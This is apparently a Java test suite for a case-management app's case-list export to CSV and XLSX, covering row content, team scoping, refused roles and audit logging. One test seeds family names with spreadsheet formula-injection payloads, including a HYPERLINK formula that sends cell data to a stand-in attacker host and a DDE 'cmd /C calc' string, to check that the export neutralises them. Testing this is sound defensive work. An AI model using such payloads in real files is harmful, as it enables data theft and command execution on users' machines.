package org.consilium.casefile;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.vaadin.flow.i18n.I18NProvider;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import java.util.Locale;
import org.consilium.base.CsvWriter;
import org.consilium.base.ExportFormat;
import org.consilium.base.Languages;
import org.consilium.family.Family;
import org.consilium.family.FamilyDetails;
import org.consilium.family.FamilyService;
import org.consilium.family.MemberDetails;
import org.consilium.family.Relation;
import org.consilium.family.Sex;
import org.consilium.referral.Referral;
import org.consilium.security.AppRoles;
import org.consilium.testing.ExportFiles;
import org.consilium.testing.MariaDbTest;
import org.consilium.testing.SignedIn;
import org.consilium.testing.StaffAccounts;
import org.consilium.testing.TestCases;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.data.domain.PageRequest;
import org.springframework.data.domain.Sort;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.security.access.AccessDeniedException;

/** The case list's export on MariaDB: the rows the list shows, neutralised in CSV, refused and recorded. */
@MariaDbTest
class CaseListExportTest {

    private static final CaseFilter OPEN = new CaseFilter(null, null, null, "", true);

    @Autowired
    CaseListExport export;

    @Autowired
    CaseLists lists;

    @Autowired
    CaseService cases;

    @Autowired
    FamilyService families;

    @Autowired
    TestCases testCases;

    @Autowired
    StaffAccounts staff;

    @Autowired
    SignedIn signedIn;

    @Autowired
    JdbcTemplate jdbc;

    @Autowired
    I18NProvider i18n;

    private byte[] exported(String user, CaseFilter filter, ExportFormat format) {
        return signedIn.as(user, () -> ExportFiles.bytes(out -> export.export(filter, Sort.unsorted(), format, Languages.ENGLISH, out)));
    }

    private List<CaseRow> listed(String user, CaseFilter filter) {
        return signedIn.as(user, () -> lists.page(filter, PageRequest.of(0, CaseListExport.MAX_ROWS, CaseListExport.LIST_ORDER)).getContent());
    }

    /** A case of a new family whose name is {@code name}, with the demo curator. */
    private long caseOfFamilyNamed(String name) {
        Family family = signedIn.as("intake", () -> {
            FamilyDetails d = new FamilyDetails();
            d.setMembers(List.of(new MemberDetails(name, "Олена", LocalDate.parse("1987-01-01"), Sex.FEMALE, Relation.MOTHER)));
            return families.register(d, true);
        });
        Referral r = testCases.verifiedReferral(family);
        return signedIn.as("supervisor", () -> cases.openFromReferral(r.getId(), r.getVersion(), TestCases.CRISIS,
                staff.idOf("curator"), true)).familyCase().getId();
    }

    private String en(String key) {
        return i18n.getTranslation(key, Locale.ENGLISH);
    }

    private long count(String sqlCondition, Object... args) {
        return jdbc.queryForObject("SELECT COUNT(*) FROM audit_entry WHERE " + sqlCondition, Long.class, args);
    }

    @Test
    void the_export_holds_the_cases_the_list_shows_the_reader_in_its_order_as_csv_and_as_a_workbook() {
        String marker = SignedIn.unique("Кравчук");
        caseOfFamilyNamed(marker);
        List<CaseRow> shown = listed("curator", OPEN);
        assertThat(shown).extracting(CaseRow::familyName).contains(marker);

        List<List<String>> csv = ExportFiles.csv(exported("curator", OPEN, ExportFormat.CSV));
        assertThat(csv.getFirst()).containsExactly("Family", "Stage", "Support level", "Urgency", "Due by", "Overdue", "Curator",
                "Opened", "Days open");
        List<List<String>> rows = csv.subList(1, csv.size());
        assertThat(rows).extracting(r -> r.get(0))
                .containsExactlyElementsOf(shown.stream().map(r -> CsvWriter.neutralised(r.familyName())).toList());
        assertThat(rows).extracting(r -> r.get(1)).containsExactlyElementsOf(shown.stream().map(r -> en(r.stage().messageKey())).toList());
        assertThat(rows).extracting(r -> r.get(6)).containsExactlyElementsOf(shown.stream().map(CaseRow::curatorName).toList());
        assertThat(rows).extracting(r -> r.get(5)).containsExactlyElementsOf(shown.stream().map(r -> r.overdue() ? "Yes" : "No").toList());

        List<Row> workbook = ExportFiles.workbook(exported("curator", OPEN, ExportFormat.XLSX));
        assertThat(workbook).hasSize(shown.size() + 1);
        assertThat(workbook.subList(1, workbook.size())).extracting(r -> r.getCellText(0))
                .containsExactlyElementsOf(shown.stream().map(CaseRow::familyName).toList());
        assertThat(workbook.subList(1, workbook.size())).allSatisfy(r -> assertThat(r.getCellAsDate(7)).as("opened, a date cell").isPresent());

        String otherCurator = staff.createInAnotherTeam("exo.", "Інша Команда", AppRoles.CURATOR, "export-other-1");
        List<List<String>> theirs = ExportFiles.csv(exported(otherCurator, OPEN, ExportFormat.CSV));
        assertThat(theirs).as("another team's curator gets their own list only").hasSize(listed(otherCurator, OPEN).size() + 1);
        assertThat(theirs).flatExtracting(r -> r).noneMatch(cell -> cell.contains(marker));
    }

    @Test
    void a_family_name_a_spreadsheet_would_run_is_neutralised_in_the_csv_and_commas_quotes_and_line_breaks_are_quoted() {
        String marker = SignedIn.unique("N");
        List<String> formulas = List.of("=HYPERLINK(\"http://ev.il/?\"&A1)" + marker, "+1+cmd|' /C calc'!A0" + marker,
                "-2+3" + marker, "@SUM(1+1)" + marker);
        for (String name : formulas) {
            caseOfFamilyNamed(name);
        }
        // A name is trimmed when typed; one kept otherwise (from an older import) could still start so.
        for (String start : List.of("\t", "\r")) {
            long id = caseOfFamilyNamed("Пробіл" + marker + start.hashCode());
            jdbc.update("UPDATE family SET name = CONCAT(?, name) WHERE id = (SELECT family_id FROM family_case WHERE id = ?)", start, id);
            jdbc.update("UPDATE family_case SET family_name = CONCAT(?, family_name) WHERE id = ?", start, id);
        }
        String awkward = "Коваль, \"Мала\"\nзавод" + marker;
        caseOfFamilyNamed(awkward);

        byte[] file = exported("curator", OPEN, ExportFormat.CSV);
        String text = new String(file, StandardCharsets.UTF_8);
        assertThat(text).contains("\"'=HYPERLINK(\"\"http://ev.il/?\"\"&A1)" + marker + "\",")
                .contains("\"Коваль, \"\"Мала\"\"\nзавод" + marker + "\",");
        List<List<String>> rows = ExportFiles.csv(file);
        List<String> ours = rows.stream().map(r -> r.get(0)).filter(name -> name.contains(marker)).toList();
        assertThat(ours).hasSize(formulas.size() + 3);
        assertThat(ours).filteredOn(name -> !name.equals(awkward)).allSatisfy(name -> assertThat(name).startsWith("'"));
        assertThat(ours).contains("'\tПробіл" + marker + "\t".hashCode(), "'\rПробіл" + marker + "\r".hashCode(), awkward);
        assertThat(rows).flatExtracting(r -> r).noneSatisfy(cell -> assertThat(cell).matches("(?s)^[=+\\-@\t\r].*"));

        List<Row> workbook = ExportFiles.workbook(exported("curator", OPEN, ExportFormat.XLSX));
        List<Row> ourRows = workbook.stream().filter(r -> r.getCellText(0).contains(marker)).toList();
        assertThat(ourRows).extracting(r -> r.getCell(0).getType()).as("text cells, never formulas").containsOnly(CellType.STRING);
        assertThat(ourRows).extracting(r -> r.getCellText(0)).as("a workbook keeps the names as they are")
                .containsAll(formulas).contains(awkward);
    }

    @Test
    void a_role_that_may_not_see_the_case_list_is_refused_the_export_and_the_refusal_is_in_the_audit_log() {
        for (String user : List.of("school", "intake", "family")) {
            long before = count("action = 'DENIED' AND username = ? AND detail LIKE 'CaseListExport.export(%'", user);
            assertThatThrownBy(() -> exported(user, OPEN, ExportFormat.CSV)).as(user).isInstanceOf(AccessDeniedException.class);
            assertThat(count("action = 'DENIED' AND username = ? AND detail LIKE 'CaseListExport.export(%'", user)).isEqualTo(before + 1);
        }
    }

    @Test
    void an_export_is_in_the_audit_log_with_its_filters_and_row_count_but_not_the_name_searched_for() {
        CaseFilter filter = new CaseFilter(CaseStage.INITIAL_ASSESSMENT, null, null, "Савченко", true);
        int listed = listed("supervisor", filter).size();
        exported("supervisor", filter, ExportFormat.XLSX);

        String detail = jdbc.queryForObject("""
                SELECT detail FROM audit_entry WHERE username = 'supervisor' AND action = 'EXPORT' AND entity_type = 'case-list'
                ORDER BY id DESC LIMIT 1""", String.class);
        assertThat(detail).startsWith("XLSX; stage=INITIAL_ASSESSMENT,").contains("member=…").endsWith("; rows " + listed)
                .doesNotContain("Савченко");
    }
}
